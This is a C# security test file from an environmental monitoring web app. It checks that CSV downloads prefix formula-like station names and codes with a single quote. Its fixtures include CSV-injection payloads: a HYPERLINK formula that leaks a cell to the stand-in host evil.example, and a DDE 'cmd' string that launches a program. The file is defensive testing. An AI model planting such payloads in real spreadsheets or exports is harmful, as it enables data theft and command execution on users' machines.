using System.Net;
using System.Text;

namespace EcoMonitor.Web.Tests.Security;

/// <summary>
/// The CSV downloads of a real server: a station whose name and MN a spreadsheet would run as formulas comes out
/// neutralised (a leading single quote in a quoted cell), its concentrations as plain numbers.
/// </summary>
[Trait("Area", "Security")]
public sealed class CsvInjectionTests : IAsyncLifetime
{
    private const string AirName = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")";
    private const string AirMn = "@CSV01";
    private const string WaterName = "-2+3+cmd|' /C calc'!A0";

    private readonly ApiFactory _api = new();

    public async ValueTask InitializeAsync()
    {
        using HttpResponseMessage registered = await _api.RegisterStationAsync($$"""
            [{"mn":"{{AirMn}}","name":{{System.Text.Json.JsonSerializer.Serialize(AirName)}},"type":"airQuality","region":"520102","password":"123456"},
             {"mn":"CSVW01","name":{{System.Text.Json.JsonSerializer.Serialize(WaterName)}},"type":"surfaceWater","region":"520102","password":"123456"}]
            """);
        Assert.True(registered.IsSuccessStatusCode, await registered.Content.ReadAsStringAsync());
        var rows = new StringBuilder("station,parameter,interval,period_start,value\n");
        for (int hour = 0; hour < 24; hour++)
        {
            rows.Append(System.Globalization.CultureInfo.InvariantCulture, $"{AirMn},a34004,hour,2026-02-04T{hour:D2}:00:00+08:00,{30 + hour}.5\n");
        }

        rows.Append("CSVW01,w21003,hour,2026-02-04T08:00:00+08:00,0.5\n");
        using HttpResponseMessage imported = await _api.ImportAsync(rows.ToString(), "text/csv");
        Assert.Equal(HttpStatusCode.OK, imported.StatusCode);
    }

    public ValueTask DisposeAsync() => _api.DisposeAsync();

    [Fact]
    public async Task HourlyCsv_FormulaNameAndMn_AreNeutralised_NumbersAreNot()
    {
        string[] row = await WaitForRowAsync($"/api/v1/downloads/aqi-hourly.csv?station={Uri.EscapeDataString(AirMn)}&from=2026-02-04&to=2026-02-05", "'@CSV01");

        Assert.StartsWith("\"'@CSV01\",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"点击\"\")\",520102,", row[0], StringComparison.Ordinal);
        // SO2, NO2, PM10 empty, PM2.5 a plain number, CO and O3 empty.
        Assert.Matches(",,,[0-9]+(\\.[0-9]+)?,,$", row[0]);
    }

    [Fact]
    public async Task WaterCsv_FormulaName_IsNeutralised()
    {
        string[] rows = await WaitForRowAsync("/api/v1/downloads/water-daily.csv?station=CSVW01&from=2026-02-04&to=2026-02-05", "CSVW01");

        Assert.StartsWith("CSVW01,\"'-2+3+cmd|' /C calc'!A0\",520102,river,2026-02-04,", rows[0], StringComparison.Ordinal);
        Assert.Contains(",0.5,", rows[0], StringComparison.Ordinal);
    }

    /// <summary>The data lines (after the header) of a download, once the background evaluation has stored them.</summary>
    private async Task<string[]> WaitForRowAsync(string path, string start)
    {
        DateTime deadline = DateTime.UtcNow.AddSeconds(60);
        while (true)
        {
            string csv = (await _api.GetStringAsync(path)).TrimStart('\uFEFF');
            string[] lines = csv.Split("\r\n", StringSplitOptions.RemoveEmptyEntries)[1..];
            if (lines.Length > 0 || DateTime.UtcNow > deadline)
            {
                Assert.All(lines, l => Assert.Contains(start, l, StringComparison.Ordinal));
                Assert.NotEmpty(lines);
                return lines;
            }

            await Task.Delay(200, TestContext.Current.CancellationToken);
        }
    }
}
